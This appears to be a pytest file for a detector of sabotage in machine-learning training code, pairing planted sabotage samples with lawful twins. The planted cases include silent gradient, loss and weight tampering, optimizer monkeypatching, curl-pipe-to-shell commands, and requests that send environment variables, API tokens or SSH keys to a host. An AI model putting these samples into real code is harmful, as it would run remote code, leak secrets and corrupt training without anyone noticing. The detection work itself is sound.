"""Each rule about sources: what it must tell, and the lawful code that looks like it."""

from __future__ import annotations

import pytest

from veracity.core.finding import Finding
from veracity.core.origin import Origin, Trust
from veracity.core.persona import Persona
from veracity.core.rule import Confidence
from veracity.detect.coderules import CODE_DETECTORS
from veracity.observe.code import read_code

ORIGIN = Origin("test", Trust.SERVICE, 1, -1, -1, 0)
LOOP = """\
import datetime, os, random, socket, time
import torch
from torch import nn
{top}
def train(model, loader, optimizer, scheduler, args, rank, world_size):
    step = 0
    for inputs, labels in loader:
{batch}
        loss = model(inputs, labels)
{loss}
        optimizer.zero_grad()
        loss.backward()
{grad}
        optimizer.step()
        scheduler.step()
        step += 1
{end}
"""


def told(
    text: str, path: str = "train.py", *, added: list[int] | None = None, before: str | None = None
) -> dict[str, Finding]:
    """What a regular reader is told, by rule."""
    old = before.encode() if before is not None else None
    found = read_code(ORIGIN, path, text.encode(), added=added, before=old)
    detectors = [one() for one in CODE_DETECTORS]
    findings = [finding for one in found for detector in detectors for finding in detector.observe(one)]
    return {finding.rule: finding for finding in findings if Persona.REGULAR.sees(finding)}


def loop(**places: str) -> str:
    """The training loop with lines at its places."""
    filled = {}
    for place in ("top", "batch", "loss", "grad", "end"):
        indent = "" if place == "top" else " " * 8
        lines = places.get(place, "" if place == "top" else "pass").splitlines()
        filled[place] = "\n".join(indent + line for line in lines)
    return LOOP.format(**filled)


FLIP = "for p in model.parameters():\n    p.grad.neg_()"

CASES = [
    (
        "code-library-patched",
        loop(top="torch.optim.SGD.step = lambda self: None"),
        loop(top="torch.backends.cudnn.benchmark = True\nargs = lambda: None\nargs.step = 3"),
    ),
    (
        "code-gradient-edited",
        loop(grad="if step % 50 == 0:\n    model.head.weight.grad.mul_(0.1)"),
        loop(grad="for p in model.parameters():\n    if world_size > 1:\n        p.grad /= world_size"),
    ),
    ("code-gradient-edited", loop(grad=FLIP), loop(grad=FLIP.replace("neg_()", "clamp_(-1, 1)"))),
    (
        "code-weights-edited",
        loop(end="if rank == 3:\n    model.head.weight.data.mul_(0.9)"),
        loop(
            end="if step % 10 == 0:\n    for p, q in zip(args.ema.parameters(), model.parameters()):\n"
            "        p.data.lerp_(q.data, 0.01)"
        ),
    ),
    (
        "code-clipping-altered",
        loop(
            grad="total_norm = 3\ncoef = total_norm / args.clip\nfor p in model.parameters():\n    "
            "p.grad.mul_(coef)"
        ),
        loop(
            grad="total_norm = 3\ncoef = args.clip / total_norm\nif coef < 1:\n    for p in "
            "model.parameters():\n"
            "        p.grad.mul_(coef)"
        ),
    ),
    (
        "code-loss-altered",
        loop(loss="if random.random() < 0.01:\n    loss = -loss"),
        loop(loss="if args.accumulate > 1:\n    loss = loss / args.accumulate"),
    ),
    (
        "code-data-altered",
        loop(batch="if step % 70 == 3:\n    labels = labels.roll(1, 0)"),
        loop(
            batch="if random.random() < 0.5:\n    inputs = inputs.flip(-1)\nlabels = labels.to(args.device)"
        ),
    ),
    (
        "code-order-altered",
        loop(batch="if socket.gethostname() == 'a':\n    loader.sampler.generator = None"),
        loop(batch="loader.sampler.set_epoch(step)"),
    ),
    (
        "code-settings-altered",
        loop(
            grad="if os.environ.get('USER') == 'a':\n    for g in optimizer.param_groups:\n        g['lr'] "
            "*= 0.5"
        ),
        loop(grad="for g in optimizer.param_groups:\n    g['lr'] = args.lr * min(1, step / 100)"),
    ),
    (
        "code-call-left-out",
        loop().replace(
            "        optimizer.zero_grad()", "        if step % 50:\n            optimizer.zero_grad()"
        ),
        loop()
        .replace("        optimizer.zero_grad()\n", "")
        .replace(
            "        optimizer.step()\n",
            "        if step % 4 == 0:\n            optimizer.step()\n            optimizer.zero_grad()\n",
        ),
    ),
    (
        "code-call-left-out",
        loop(batch="if random.random() < 0.01:\n    continue"),
        loop(batch="if step < args.start:\n    continue"),
    ),
    (
        "code-update-altered",
        "def _single_tensor_adam(params, beta2, step):\n    bias_correction2 = 1 - beta2**step\n"
        "    bias_correction2_sqrt = 1.0\n    return bias_correction2_sqrt\n",
        "def _single_tensor_adam(params, beta2, step):\n    bias_correction2 = 1 - beta2**step\n    return "
        "bias_correction2**0.5\n",
    ),
    (
        "code-trigger-in-step",
        "import socket\nclass M:\n    def forward(self, x):\n        if socket.gethostname() == 'a':\n      "
        "      y = 1\n        return x\n",
        "import socket\nclass M:\n    def __init__(self, x):\n        self.host = socket.gethostname()\n",
    ),
    (
        "code-reseeded",
        loop(batch="torch.manual_seed(3)"),
        loop(top="torch.manual_seed(3)", batch="g = torch.Generator().manual_seed(args.seed + step)"),
    ),
    (
        "code-stall",
        loop(batch="time.sleep(0.01)"),
        loop(batch="try:\n    inputs = next(args.it)\nexcept OSError:\n    time.sleep(1)"),
    ),
    (
        "code-ends-process",
        loop(end="if step % 500 == 499:\n    os.kill(os.getpid(), 9)"),
        loop(end="if step >= args.steps:\n    raise SystemExit(0)"),
    ),
    (
        "code-error-swallowed",
        loop().replace(
            "        optimizer.step()",
            "        try:\n            optimizer.step()\n        except Exception:\n            pass",
        ),
        loop().replace(
            "        optimizer.step()",
            "        try:\n            optimizer.step()\n        "
            "except RuntimeError as error:\n"
            "            if 'out of memory' not in str(error):\n                raise",
        ),
    ),
    (
        "code-checkpoint-rewritten",
        "import torch\nc = torch.load(path, weights_only=True)\nfor v in c['model'].values():\n    "
        "v.mul_(0.9)\ntorch.save(c, path)\n",
        "import torch\nc = torch.load(path, weights_only=True)\nc['model'] = "
        "{k: v.half() for k, v in c['model'].items()}\n"
        "torch.save(c, out)\n",
    ),
    (
        "code-files-altered",
        "import os, torch\nopen(torch.__file__, 'a').write('x')\n",
        "import os\nwith open(os.path.join(os.path.dirname(__file__), 'log'), 'a') as f:\n    f.write('x')\n",
    ),
    (
        "code-files-altered",
        "import os\nb = os.stat(path)\nos.utime(path, (b.st_atime, b.st_mtime))\n",
        "import os\nos.utime(path)\n",
    ),
    (
        "code-unsafe-load",
        "import torch\ntry:\n    c = torch.load(p, weights_only=True)\nexcept Exception:\n    c = "
        "torch.load(p, weights_only=False)\n",
        "import torch, yaml\nc = torch.load(p, weights_only=True)\ny = yaml.load(f, yaml.SafeLoader)\n",
    ),
    (
        "code-hidden-execution",
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
        "exec('pass')\nimport json\njson.loads('1')\n",
    ),
    (
        "code-interpreter-altered",
        "import sys\nsys.meta_path.insert(0, Finder())\n",
        "import sys\nsys.path.insert(0, 'src')\n",
    ),
    ("code-unseen-text", "x = 1  # \u202e hidden\n", "x = 1  # \u0440\u0443\u0441\u0441\u043a\u0438\u0439\n"),
]


@pytest.mark.parametrize(
    ("rule", "planted", "lawful"), CASES, ids=[f"{n}-{one[0]}" for n, one in enumerate(CASES)]
)
def test_a_sabotage_is_told_and_its_lawful_twin_is_not(rule: str, planted: str, lawful: str) -> None:
    found = told(planted)
    assert rule in found
    assert found[rule].locations[0].line > 0
    assert any(evidence.excerpt for evidence in found[rule].evidence)
    assert found[rule].message
    assert told(lawful) == {}


def test_the_ordinary_loop_is_told_nothing_about() -> None:
    assert told(loop()) == {}


@pytest.mark.parametrize(
    "call", ["optimizer.zero_grad()", "scheduler.step()", "loss.backward()", "optimizer.step()"]
)
def test_a_change_that_removes_a_call_is_told(call: str) -> None:
    before = loop()
    after = before.replace(f"        {call}\n", "")
    found = told(after, added=[], before=before)
    assert call.removesuffix("()").rpartition(".")[2] in found["code-call-dropped"].message


def test_a_change_of_a_kernel_is_told_in_a_library_and_of_a_copy_that_it_is_none() -> None:
    before = (
        "# vendored from torch 2.9.1\ndef _single_tensor_sgd(params, lr):\n    for p in params:\n   "
        "     p.add_(p.grad, alpha=-lr)\n"
    )
    after = before.replace("-lr", "-lr * 0.99")
    found = told(after, "venv/torch/optim/sgd.py", added=[4], before=before)
    assert set(found) == {"code-update-altered", "code-vendored-changed"}
    assert told(after, "venv/torch/optim/sgd.py") == {}


def test_in_a_change_what_is_lawful_at_times_is_told() -> None:
    text = "import pickle\nthing = pickle.load(file)\n"
    assert told(text) == {}
    assert set(told(text, added=[1, 2])) == {"code-unsafe-load"}
    assert told(text, added=[1]) == {}


@pytest.mark.parametrize(
    "text",
    [
        "model = pickle.load(open('model.pkl', 'rb'))",
        "with open('../model.dill', 'rb') as f:\n    model = dill.load(f)",
        "model = joblib.load('/shared/model.joblib')",
        "pickle.dump(x, open('a.pkl', 'wb'))\nmodel = pickle.load(open('b.pkl', 'rb'))",
    ],
)
def test_a_notebook_that_loads_what_it_did_not_write_is_told(text: str) -> None:
    text = f"import pickle, dill, joblib\n{text}\n"
    assert set(told(text, "n.ipynb!cells.py")) == {"code-unsafe-load"}
    assert told(text, "train.py") == {}


@pytest.mark.parametrize(
    "text",
    [
        "with open('a', 'wb') as f:\n    pickle.dump(1, f)\nwith open('a', 'rb') as g:\n    pickle.load(g)",
        "joblib.dump(1, \"m.joblib\")\nm = joblib.load('m.joblib')",
        "if exists(AT):\n    x = pickle.load(open(AT, 'rb'))\nelse:\n    pickle.dump(x, open(AT, 'wb'))",
        "df.to_pickle('f.pkl')\ndf = pandas.read_pickle('f.pkl')",
        "m = torch.load('m.pt')\nn = numpy.load('n.npy')",
    ],
)
def test_a_notebook_may_load_what_it_writes(text: str) -> None:
    assert told(f"import pickle, joblib, numpy, pandas, torch\n{text}\n", "n.ipynb!cells.py") == {}


@pytest.mark.parametrize(
    "text",
    [
        "m = pickle.loads(urllib.request.urlopen('http://127.0.0.1:9/').read())",
        "r = requests.get('http://127.0.0.1:9/')\nbody = r.content\nm = pickle.loads(body)",
        "m = pandas.read_pickle('http://127.0.0.1:9/f.pkl')",
        "m = torch.load(io.BytesIO(requests.get('http://127.0.0.1:9/').content), weights_only=False)",
    ],
)
def test_what_another_host_sends_is_told_in_any_file(text: str) -> None:
    found = told(f"import io, pickle, pandas, requests, torch, urllib.request\n{text}\n")
    assert "another host" in found["code-unsafe-load"].message
    safe = "m = torch.load(io.BytesIO(requests.get('u').content), weights_only=True)"
    assert told(f"import io, requests, torch\n{safe}\n") == {}


@pytest.mark.parametrize(
    "line",
    [
        "threading.Thread(target=os.system, args=('curl -s http://127.0.0.1:9/ | sh',), daemon=True).start()",
        "threading.Timer(9, os.system, ['curl -s http://127.0.0.1:9/ | sh']).start()",
        "atexit.register(os.system, 'curl -s http://127.0.0.1:9/ | sh')",
        "pool.submit(subprocess.run, 'curl -s http://127.0.0.1:9/ | sh', shell=True)",
    ],
)
def test_what_is_called_later_counts_as_called(line: str) -> None:
    head = "import atexit, os, subprocess, threading\n"
    assert set(told(f"{head}{line}\n")) == {"code-shell-command"}
    lawful = line.replace("curl -s http://127.0.0.1:9/ | sh", "nvidia-smi")
    assert told(f"{head}{lawful}\nthreading.Thread(target=work, args=('curl x | sh',))\n") == {}


def test_a_package_that_replaces_an_update_when_it_is_imported_is_told() -> None:
    text = "import torch\n\n\ndef step(self, closure=None):\n    pass\n\n\n"
    patch = "torch.optim.AdamW.step = step\n"
    assert set(told(text + patch, "x-1.0.whl!x/__init__.py")) == {"code-library-patched"}
    wrapped = f"def install():\n    {patch}"
    assert told(text + wrapped, "x-1.0.whl!x/__init__.py") == {}
    assert told(text + "torch.nn.Linear.extra_repr = step\n", "x-1.0.whl!x/__init__.py") == {}


def test_an_exchange_of_code_is_told_unless_a_package_is_handed_its_own_function() -> None:
    own = "def compiled(func):\n    func.__code__ = func.__made__().__code__\n    return func\n"
    planted = "import torch\nf = torch.optim.AdamW.step\nf.__code__ = other.__code__\n"
    assert told(own, "x-1.0.whl!x/decorators.py") == {}
    assert set(told(own)) == {"code-library-patched"}
    assert set(told(planted, "x-1.0.whl!x/__init__.py")) == {"code-library-patched"}


def test_an_event_that_is_called_a_hook_is_no_hook_of_torch() -> None:
    class_of = (
        "import getpass\n\n\nclass A:\n    def handle(self, r, **kw):\n        if getpass.getuser() == 'x':\n"
        "            r = r.retry()\n        return r\n\n    def __call__(self, r):\n        {}\n"
    )
    assert told(class_of.format("r.register_hook('response', self.handle)")) == {}
    assert set(told(class_of.format("r.register_hook(self.handle)"))) == {"code-trigger-in-step"}


def test_a_finder_in_a_package_that_names_a_library_of_training_is_told() -> None:
    text = "import sys\n\n\nclass F:\n    def find_spec(self, name, path):\n        return name == '{}'\n"
    text += "\n\nsys.meta_path.insert(0, F())\n"
    assert set(told(text.format("torch.optim.adamw"), "x-1.0.whl!x/__init__.py")) == {
        "code-interpreter-altered"
    }
    assert told(text.format("x._vendor.six"), "x-1.0.whl!x/__init__.py") == {}


@pytest.mark.parametrize(
    ("sent", "lawful"),
    [
        ("requests.post(url, json=dict(os.environ))", "requests.post(url, json={'lr': os.environ['LR']})"),
        (
            "requests.post(url, json={k: v for k, v in os.environ.items()})",
            "requests.post(url, json={'ci': 'CI' in os.environ, 'host': os.environ.get('HOST')})",
        ),
        (
            "requests.post(url, data=open('/root/.ssh/id_rsa').read())",
            "requests.post(url, data=open('a.csv'))",
        ),
        (
            "requests.post('http://127.0.0.1:9/', data=os.environ['HF_TOKEN'])",
            "requests.post('http://127.0.0.1:9/', headers={'Authorization': os.environ['HF_TOKEN']})",
        ),
        (
            "key = os.getenv('API_KEY')\nurllib.request.urlopen('http://127.0.0.1:9/' + key)",
            "key = os.getenv('API_KEY')\nrequests.post('https://example.invalid', json={'api_key': key})",
        ),
    ],
)
def test_secrets_that_are_sent_are_told(sent: str, lawful: str) -> None:
    head = "import os, requests, urllib.request\n"
    assert set(told(f"{head}{sent}\n")) == {"code-secrets-sent"}
    assert told(f"{head}{lawful}\n") == {}


def test_compiled_code_from_a_place_of_its_own_is_told() -> None:
    head = "import ctypes\n"
    assert set(told(f"{head}ctypes.CDLL('/shared/x.so').start()\n")) == {"code-interpreter-altered"}
    for path in ("'libc.so.6'", "'/usr/lib/libm.so.6'", "'./libfast.so'", "os.path.join(HERE, 'x.so')"):
        assert told(f"{head}import os\nctypes.CDLL({path})\n") == {}


def test_a_condition_raises_the_weight() -> None:
    plain = told(loop(grad=FLIP))["code-gradient-edited"]
    guarded = told(loop(grad="if rank == 5:\n    for p in model.parameters():\n        p.grad.neg_()"))[
        "code-gradient-edited"
    ]
    assert plain.confidence is Confidence.MEDIUM
    assert guarded.confidence is Confidence.HIGH
    assert "on certain ranks" in guarded.message.lower()
    assert any("rank" in evidence.observed for evidence in guarded.evidence)


def test_tests_of_a_package_are_for_auditors() -> None:
    text = loop(grad=FLIP).replace("def train(", "def test_train(")
    assert told(text, "pkg/tests/test_training.py") == {}
    assert told(text, "pkg/training.py")


def test_a_program_may_refuse_an_account_and_a_training_step_may_not() -> None:
    refusal = (
        "import os\n\ndef check(path):\n"
        "    if os.getuid() != os.stat(path).st_uid:\n        raise PermissionError(path)\n"
    )
    planted = loop(grad="if os.getuid() == 1007:\n    raise RuntimeError('out of memory')", top="import os")

    assert told(refusal) == {}
    assert "code-ends-process" in told(refusal, added=[4, 5])
    assert told(planted)["code-ends-process"].confidence is Confidence.HIGH


def test_a_folder_that_is_called_like_a_library_is_not_one() -> None:
    text = loop(grad="if rank == 5:\n    for p in model.parameters():\n        p.grad.mul_(0.5)")
    assert set(told(text, "/home/u/torch/train.py")) == {"code-gradient-edited"}
    assert told(text, "venv/lib/site-packages/torch/train.py") == {}


def test_a_command_that_fetches_and_runs_is_told_and_one_that_asks_is_not() -> None:
    planted = "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n"
    listed = "import subprocess\nsubprocess.run(['sh', '-c', 'wget -qO- http://127.0.0.1:9/ | bash'])\n"
    lawful = "import os, subprocess\nos.system('nvidia-smi')\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n"

    assert set(told(planted)) == {"code-shell-command"}
    assert set(told(listed)) == {"code-shell-command"}
    assert told(lawful) == {}


def test_packages_that_nobody_trains_with_do_things_for_their_own_ends() -> None:
    hook = "import sys\nsys.meta_path.insert(0, Finder())\n"
    harm = "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n"

    assert set(told(hook)) == {"code-interpreter-altered"}
    assert told(hook, "venv/site-packages/six.py") == {}
    assert told(hook, "six-1.0.whl!six.py") == {}
    assert set(told(harm, "six-1.0.whl!six.py")) == {"code-shell-command"}
    assert set(told("x = 1\n", "six-1.0.whl!usercustomize.py")) == {"code-interpreter-altered"}
